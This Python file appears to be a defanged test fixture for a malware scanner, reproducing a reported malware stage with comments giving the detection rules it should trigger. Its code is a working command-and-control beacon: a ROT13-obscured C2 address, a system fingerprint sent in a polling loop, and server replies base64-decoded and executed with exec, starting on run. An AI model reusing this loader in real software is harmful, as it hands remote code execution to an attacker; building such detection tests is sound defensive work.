# Shape of the "Code of Conduct" (Elastic, 2024) stage 2 written to
# rebase.tmp: ROT13-hidden C2, random uid beacon, "Google.com"-prefixed  # expect: HS217 high
# answer base64-decoded and run with exec(compile(..., globals())).
# Defanged: the C2 is example.invalid.
import base64
import codecs
import platform
import random
import time

import requests

C2 = codecs.decode("uggcf://p2.rknzcyr.vainyvq/", "rot13")


def uid():
    return "".join(random.choice("123456789") for _ in range(8))


def os_flag():
    name = platform.system()
    if name == codecs.decode("Jvaqbjf", "rot13"):
        return 1
    if name == codecs.decode("Qnejva", "rot13"):
        return 2
    return 3


def run():
    ident = uid()
    flag = os_flag()
    while True:
        try:
            body = "Amazon.com" + ident + "csrr" + str(flag)
            r = requests.post(C2, data=body, timeout=30).text  # expect: HS118 high
            if r.startswith("Google.com") and len(r) > 15:
                dec = base64.b64decode(r[10:])
                exec(compile(dec, "", "exec"), globals())  # expect: HS101 critical, HS102 critical
            time.sleep(random.randint(20, 60))
        except:
            time.sleep(60)


run()
